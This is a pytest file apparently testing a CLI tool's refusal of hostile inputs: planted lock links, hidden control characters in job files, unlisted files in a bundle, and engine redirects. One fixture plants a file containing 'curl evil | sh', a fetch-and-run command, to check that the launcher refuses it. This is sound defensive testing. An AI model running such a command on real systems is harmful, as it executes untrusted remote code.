"""Issue 27's hostile inputs, round 3: running, launching and validating (docs/safety.md, "Round 3: running
and validating"). Each refusal is one coded line naming what the user gave; nothing is written through a
link, launched outside the manifest, fetched from another service, or shown other than it runs."""

from __future__ import annotations

import json
import math
import os
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import torch

from pcc.cli import main

ROOT = Path(__file__).resolve().parents[1]
TINY = ROOT / "contracts" / "tiny_cpu.prec"
TINY_VERL = ROOT / "contracts" / "verl" / "tiny_cpu.prec"
RUN = ["run", str(TINY), "--steps", "1", "--no-plots"]


def _envelope(capsys, argv: list[str]) -> tuple[int, dict]:
    code = main(argv + ["--json"]) if "--" not in argv else main(
        argv[:argv.index("--")] + ["--json"] + argv[argv.index("--"):])
    return code, json.loads(capsys.readouterr().out)


def _errors(env: dict) -> list[dict]:
    return [d for d in env["diagnostics"] if d["severity"] == "error"]


@pytest.fixture(scope="module")
def bundles(tmp_path_factory):
    """A Miles bundle and a verl bundle of the tiny contract, compiled once; tests copy them before editing."""
    d = tmp_path_factory.mktemp("round3")
    assert main(["compile", str(TINY), "-o", str(d / "miles")]) == 0
    assert main(["compile", str(TINY_VERL), "-o", str(d / "verl")]) == 0
    return d


def _copy(bundles: Path, name: str, tmp_path: Path) -> Path:
    out = tmp_path / name
    shutil.copytree(bundles / name, out)
    return out


# -- 1. the run directory's lock: a link or a file pcc did not make is refused, its target untouched --------

def _symlink(lock: Path, target: Path) -> None:
    lock.symlink_to(target)


def _dangling(lock: Path, target: Path) -> None:
    target.unlink()
    lock.symlink_to(target)


def _hardlink(lock: Path, target: Path) -> None:
    os.link(target, lock)


@pytest.mark.parametrize("plant, why", [(_symlink, "a link where pcc run keeps the lock"),
                                        (_dangling, "a link where pcc run keeps the lock"),
                                        (_hardlink, "a file with 2 links")], ids=["symlink", "dangling", "hardlink"])
def test_a_planted_lock_is_refused_and_its_target_untouched(tmp_path, capsys, plant, why):
    target = tmp_path / "precious"
    target.write_text("precious\n")
    plant(tmp_path / ".r.pcc-lock", target)
    code, env = _envelope(capsys, RUN + ["--out", str(tmp_path / "r")])
    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC707"], env
    assert why in _errors(env)[0]["message"]
    assert not (tmp_path / "r").exists()
    if target.exists():
        assert target.read_text() == "precious\n"
    else:
        assert plant is _dangling  # a dangling link's target is never created


# -- 2. --out: a parent that is a file is named as given; --out . runs in an empty working directory ---------

def test_out_under_a_file_names_what_was_given(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("afile").write_text("x")
    code, env = _envelope(capsys, RUN + ["--out", "afile/sub"])
    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC709"], env
    message = _errors(env)[0]["message"]
    assert message.startswith("afile/sub: ") and "afile is a file, not a folder" in message
    assert "pcc-lock" not in message


def test_out_dot_runs_in_an_empty_working_directory(tmp_path, capsys, monkeypatch):
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    code, env = _envelope(capsys, RUN + ["--out", "."])
    assert code == 0, _errors(env)
    assert (tmp_path / "here" / "run.json").is_file()
    assert not [p.name for p in (tmp_path / "here").iterdir() if "lock" in p.name]  # beside it, never inside
    assert (tmp_path / ".here.pcc-lock").is_file()


# -- 3. dry runs: every printed word shows what runs; job files hold printable text -------------------------

@pytest.mark.parametrize("char, named", [("\x1b", "U+001B"), ("\r", "line endings?"), ("\x00", "U+0000"),
                                         ("\u00a0", "NO-BREAK SPACE"), ("\u200b", "ZERO WIDTH SPACE")],
                         ids=["esc", "cr", "nul", "nbsp", "zwsp"])
@pytest.mark.parametrize("framework, line", [("miles", "--num-rollout 3{c}"), ("verl", "data.train_files=a{c}b")])
def test_a_job_file_with_a_hidden_character_is_refused_at_load(bundles, tmp_path, capsys, monkeypatch, char, named,
                                                              framework, line):
    job = tmp_path / "job"
    job.write_text("# the job\n" + line.format(c=char) + "\n")
    monkeypatch.setenv("PCC_MILES_JOB" if framework == "miles" else "PCC_VERL_JOB", str(job))
    code, env = _envelope(capsys, ["run", str(bundles / framework), "--target", framework, "--dry-run"])
    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC717"], env
    message = _errors(env)[0]["message"]
    assert f"{job}:2: " in message and named in message and char not in message


@pytest.mark.parametrize("framework, arg", [("miles", "--x=a\x1b[2Jb"), ("verl", "trainer.x=a\rb\u00a0c'd")])
def test_a_dry_run_escapes_what_a_terminal_would_not_show(bundles, capsys, monkeypatch, framework, arg):
    monkeypatch.delenv("PCC_MILES_JOB", raising=False)
    monkeypatch.delenv("PCC_VERL_JOB", raising=False)
    assert main(["run", str(bundles / framework), "--target", framework, "--dry-run", "--", arg]) == 0
    command = capsys.readouterr().out.rstrip("\n").split("\n")[-1]
    assert command.isprintable(), command  # no raw ESC, CR or no-break space reaches the terminal
    word = command.rsplit(" ", 1)[-1]
    assert word.startswith("$'")
    shell = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
    assert shell.stdout.decode() == arg  # pasted, the printed word is the argument that runs


# -- 4. a launch runs only what the bundle's manifest lists ------------------------------------------------

def _add_verl(bundle: Path, bundles: Path) -> None:
    shutil.copytree(bundles / "verl" / "verl", bundle / "verl")


def _add_miles(bundle: Path, bundles: Path) -> None:
    shutil.copytree(bundles / "miles" / "miles", bundle / "miles")


def _drop_file(bundle: Path, bundles: Path) -> None:
    (bundle / "miles" / "extra.sh").write_text("curl evil | sh\n")


@pytest.mark.parametrize("base, add, framework, text", [
    ("miles", _add_verl, "verl", "verl/launch.sh, verl/overrides.txt: not in its manifest"),
    ("verl", _add_miles, "miles", "miles/args.txt, miles/launch.sh, miles/model_args.txt, ...: not in its manifest"),
    ("miles", _drop_file, "miles", "miles/extra.sh: not in its manifest"),
], ids=["verl-folder-added", "miles-folder-added", "file-dropped-in"])
def test_a_launch_runs_only_what_the_manifest_lists(bundles, tmp_path, capsys, base, add, framework, text):
    bundle = _copy(bundles, base, tmp_path)
    add(bundle, bundles)
    code, env = _envelope(capsys, ["run", str(bundle), "--target", framework, "--dry-run"])
    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC706"], env
    assert text in _errors(env)[0]["message"]
    assert env.get("result") is None  # nothing printed to run


# -- 5 and 6. the engine client: no redirect followed; per-token values checked, naming the endpoint ---------

class Server:
    """A server on 127.0.0.1 answering each path from `table` (path -> (status, headers, body)); `seen` records
    the paths asked."""

    def __init__(self, table: dict):
        self.seen: list[str] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def _answer(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                path = self.path.split("?")[0]
                server.seen.append(path)
                status, headers, body = table.get(path, (404, {}, b'{"detail": "Not Found"}'))
                self.send_response(status)
                for k, v in {"Content-Type": "application/json", **headers}.items():
                    self.send_header(k, v)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.http.server_address[1]}"
        threading.Thread(target=self.http.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.http.shutdown()
        self.http.server_close()


def _engine(cls, url, tmp_path):
    class Arch:
        is_moe = False

    return cls(url, tmp_path, plan=None, arch=Arch(), timeout=5.0)


@pytest.mark.parametrize("status", [301, 302, 307, 308])
@pytest.mark.parametrize("client, path", [("sglang", "/get_model_info"), ("vllm", "/weight_info")])
def test_an_engine_redirect_is_refused_never_followed(tmp_path, client, path, status):
    from pcc.validate.engine import EngineError
    from pcc.validate.sglang_http import HttpEngine
    from pcc.validate.vllm_http import VllmEngine

    other = Server({path: (200, {}, b'{"weight_version": "3"}')})
    with other, Server({path: (status, {"Location": f"{other.url}{path}"}, b"")}) as s:
        with pytest.raises(EngineError) as err:
            _engine({"sglang": HttpEngine, "vllm": VllmEngine}[client], s.url, tmp_path).active()
        assert other.seen == []
    assert err.value.code == "PCC704"
    assert f"{s.url}{path}: HTTP {status} redirect to '{other.url}{path}'" in str(err.value)


def _sglang_entries(values) -> bytes:
    return json.dumps([{"meta_info": {"input_token_logprobs": [[None, 0, ""], [-0.5, 0, ""], *values],
                                      "output_token_logprobs": values, "weight_version": "1"}}]).encode()


def _vllm_choice(**fields) -> bytes:
    return json.dumps({"choices": [{"index": 0, "prompt_token_ids": [0, 0, 0, 0], **fields}]}).encode()


NAN = [[-0.1, 0, ""], [math.nan, 0, ""]]
# (engine, method, /generate or /v1/completions body, what the message says)
REPLIES = [
    ("sglang", "score", _sglang_entries([[-0.1, 0, ""]]),
     "input_token_logprobs of sequence 0: 1 entries where 2 go"),
    ("sglang", "score", _sglang_entries([[[-0.1], 0, ""], [[-0.2], 0, ""]]),
     "input_token_logprobs of sequence 0, token 0: '[-0.1]' is not a finite number"),
    ("sglang", "score", _sglang_entries([["x", 0, ""], [-0.2, 0, ""]]),
     "input_token_logprobs of sequence 0, token 0: 'x' is not a finite number"),
    ("sglang", "score", _sglang_entries(NAN), "input_token_logprobs of sequence 0, token 1: 'nan' is not a finite"),
    ("sglang", "generate", _sglang_entries([[-0.1, 5, ""]]),
     "output_token_logprobs' token ids of sequence 0: 1 entries where 2 go"),
    ("sglang", "generate", _sglang_entries([[-0.1, "5", ""], [-0.2, 6, ""]]),
     "output_token_logprobs' token ids of sequence 0, token 0: '5' is not an integer"),
    ("vllm", "score", _vllm_choice(prompt_logprobs=[None, {"0": {"logprob": -1.0}}]),
     "prompt_logprobs of sequence 0: 2 entries where 4 go"),
    ("vllm", "score", _vllm_choice(prompt_logprobs=[None, None, {"0": {"logprob": [-1.0]}}, {"0": {"logprob": -1}}]),
     "prompt_logprobs of sequence 0, token 0: '[-1.0]' is not a finite number"),
    ("vllm", "generate", _vllm_choice(token_ids=[5, 6], logprobs={"token_logprobs": [[-0.1], [-0.2]]}),
     "token_logprobs of sequence 0, token 0: '[-0.1]' is not a finite number"),
    ("vllm", "generate", _vllm_choice(token_ids=[5, 6], logprobs={"token_logprobs": [None, -0.2]}),
     "token_logprobs of sequence 0, token 0: 'None' is not a finite number"),
]


@pytest.mark.parametrize("client, method, body, text", REPLIES,
                         ids=[f"{r[0]}-{r[1]}-{i}" for i, r in enumerate(REPLIES)])
def test_short_or_garbage_per_token_values_name_the_endpoint(tmp_path, client, method, body, text):
    from pcc.validate.engine import EngineError
    from pcc.validate.sglang_http import HttpEngine
    from pcc.validate.vllm_http import VllmEngine

    endpoint = "/generate" if client == "sglang" else "/v1/completions"
    table = {endpoint: (200, {}, body), "/flush_cache": (200, {}, b"{}"),
             "/weight_info": (200, {}, b'{"weight_version": "1"}')}
    tokens = torch.zeros(1, 4, dtype=torch.long)
    with Server(table) as s:
        e = _engine(HttpEngine if client == "sglang" else VllmEngine, s.url, tmp_path)
        e.base = "m"  # vLLM's served model, as /v1/models would name it
        with pytest.raises(EngineError) as err:
            e.score(tokens, 2) if method == "score" else e.generate(tokens[:, :2], 2, 0)
    assert err.value.code == "PCC704"
    assert f"{s.url}{endpoint}: " in str(err.value) and text in str(err.value), str(err.value)


# -- 7. pcc diff: a freshly compiled `model from` bundle is not stale ------------------------------------------

def test_a_fresh_model_from_bundle_is_not_stale(tmp_path, capsys, monkeypatch):
    (tmp_path / "ckpt").mkdir()
    shutil.copy(ROOT / "pcc" / "models" / "configs" / "tiny_dense.json", tmp_path / "ckpt" / "config.json")
    (tmp_path / "c.prec").write_text('contract c {\n  model from "ckpt"\n  hardware cpu\n}\n')
    monkeypatch.chdir(tmp_path)
    assert main(["compile", "c.prec", "-o", "b"]) == 0
    capsys.readouterr()
    code, env = _envelope(capsys, ["diff", "b", "c.prec"])
    assert code == 0, env
    assert "stale" not in json.dumps(env), env


# -- 8. a contract with CR-only line endings: lines where they are, comments end at the line --------------

@pytest.mark.parametrize("text, code, where", [
    ("contract c {\r  # the model\r  model tiny_dense\r  hardware cpu\r  modle x\r}\r", "PCC101", (5, 3)),
    ("contract c {\r  # the model\r  model tiny_dense\r  hardware cpu\r}\r", None, None),
    ("contract c {\r\n  model tiny_dense\r  hardwre cpu\r\n}\r\n", "PCC101", (3, 3)),
], ids=["error-on-line-5", "clean-with-comment", "mixed"])
def test_cr_only_line_endings_are_line_breaks(tmp_path, text, code, where):
    from pcc.plan import compile_file

    path = tmp_path / "c.prec"
    path.write_bytes(text.encode())
    c = compile_file(str(path))
    errors = [d for d in c.diagnostics if d.is_error]
    if code is None:
        assert not errors, [d.render() for d in errors]
        return
    assert [d.code for d in errors] == [code], [d.render() for d in errors]
    assert (errors[0].span.line, errors[0].span.col) == where
    assert "^" in errors[0].render(c.sources)


# -- 9. an unknown catalog name is offered the close ones ---------------------------------------------------

@pytest.mark.parametrize("argv", [["diff", "{d}/q.prec", str(TINY), "--model", "qwen3_8c"],
                                  ["import", "checkpoint", "{d}/config.json", "--model", "qwen3_8c"],
                                  ["check", "{d}/q.prec"],
                                  RUN + ["--model", "qwen3_8c", "--out", "{d}/r"]],
                         ids=["diff", "import", "contract", "run"])
def test_an_unknown_catalog_offers_did_you_mean(tmp_path, capsys, argv):
    (tmp_path / "q.prec").write_text("contract q {\n  model qwen3_8c\n  hardware cpu\n}\n")
    shutil.copy(ROOT / "pcc" / "models" / "configs" / "tiny_dense.json", tmp_path / "config.json")
    code, env = _envelope(capsys, [a.replace("{d}", str(tmp_path)) for a in argv])
    assert code in (1, 2), env
    assert "did you mean 'qwen3_8b'" in _errors(env)[0]["message"], env  # the closest first
